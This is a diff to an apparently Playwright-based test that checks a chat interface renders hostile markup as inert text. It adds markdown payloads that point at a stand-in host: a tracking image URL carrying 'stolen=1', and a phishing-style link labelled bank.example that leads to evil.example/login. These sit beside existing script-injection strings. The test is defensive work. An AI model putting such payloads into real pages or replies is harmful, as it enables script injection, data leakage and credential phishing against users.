@@ -14,6 +14,9 @@ const HOSTILE = [
   '<img src="x" onerror="alert(1)">',
   "<svg onload=alert(1)>",
   "[click](javascript:alert(1))",
+  "[click](/v1/policy) [click](//evil.example) <javascript:alert(1)>",
+  "![pixel](https://evil.example/pixel?stolen=1)",
+  "[https://bank.example](https://evil.example/login)",
   '<a href="javascript:alert(1)">click</a>',
   "`<b>code</b>` **<i>bold</i>**",
   "- <iframe srcdoc='<script>alert(1)</script>'></iframe>",
@@ -23,6 +26,8 @@ const HOSTILE = [
 describe("markup in data", () => {
   it("stays text everywhere on the page", async () => {
     await open();
+    const loaded: string[] = [];
+    visit.page.on("request", (request) => loaded.push(request.url()));
     const html = HOSTILE.join("\n\n");
     const run = await visit.ask(html);
     run.emit(say.setTitle(html), say.proposeTool(0, html), say.startTool(0, { [html]: html }));
@@ -36,6 +41,9 @@ describe("markup in data", () => {
       for (const text of [
         "<script>alert(1)</script>",
         "[click](javascript:alert(1))",
+        "[click](/v1/policy) [click](//evil.example) <javascript:alert(1)>",
+        "![pixel](https://evil.example/pixel?stolen=1)",
+        "[https://bank.example](https://evil.example/login)",
         "<b>code</b>",
       ]) {
         await answer.getByText(text).last().waitFor();
@@ -49,13 +57,23 @@ describe("markup in data", () => {
     const names = await visit.inside<string[]>(
       `(root) => [...root.querySelectorAll("*")].map((e) => e.localName)`,
     );
-    const forbidden = /^(a|script|img|iframe|object|embed|i|b|style|link|base)$/;
+    const forbidden = /^(script|img|iframe|object|embed|i|b|style|link|base)$/;
     expect(names.filter((name) => forbidden.test(name))).toEqual([]);
     const attributes = await visit.inside<string[]>(
       `(root) => [...root.querySelectorAll("*")].flatMap((e) => e.getAttributeNames())
-        .filter((name) => /^on|^href$|^src|^style$/.test(name))`,
+        .filter((name) => /^on|^src|^style$/.test(name))`,
     );
     expect(attributes).toEqual([]);
+    // A link opens a web page, apart from this one, and says which.
+    const links = answer.locator("a");
+    for (const link of await links.all()) {
+      expect(await link.getAttribute("href")).toMatch(/^https:\/\/evil\.example\//);
+      expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
+      expect(await link.locator("xpath=..").textContent()).toMatch(/ \(evil\.example\)$/);
+    }
+    expect(await links.count()).toBe(2);
+    const isOwn = (url: string): boolean => new URL(url).hostname === "127.0.0.1";
+    expect(loaded.filter((url) => !isOwn(url))).toEqual([]);
   });
 });
 
